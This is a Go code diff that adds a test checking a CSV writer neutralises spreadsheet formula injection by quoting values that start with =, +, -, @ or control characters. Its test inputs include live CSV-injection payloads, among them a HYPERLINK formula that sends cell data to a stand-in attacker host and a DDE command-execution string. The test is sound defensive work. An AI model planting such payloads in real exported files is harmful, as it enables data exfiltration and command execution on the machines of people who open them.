@@ -209,6 +209,24 @@ func FuzzTable(f *testing.F) {
 	})
 }
 
+// No value is a formula for a spreadsheet. Numbers stay numbers.
+func TestCSVHasNoFormulas(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		`=HYPERLINK("http://evil.example"&A1)`, "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-cmd|x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "-", "+", "--1", "-1e", "=",
+		"+1\n=2",
+	} {
+		var out bytes.Buffer
+		require.NoError(t, writeCSV(&out, []row{{ID: text, Name: text, Targets: -3}}, rowColumns, ListOptions{NoHeaders: true}))
+		record, err := csv.NewReader(&out).Read()
+		require.NoError(t, err)
+		require.Equal(t, []string{"'" + text, "'" + text, "", "-3"}, record[:4], "%q", text)
+	}
+	for _, text := range []string{"", "a", "1", "-1", "+1", "-1.5", "-1e5", "-1,5", "a=b", "'=1", "2026-01-31T22:00:00Z", "{}", "é"} {
+		require.Equal(t, text, inert(text))
+	}
+}
+
 // A reader of CSV gets the values back.
 func FuzzCSV(f *testing.F) {
 	f.Add("a", "b\"c", "d,e\nf")
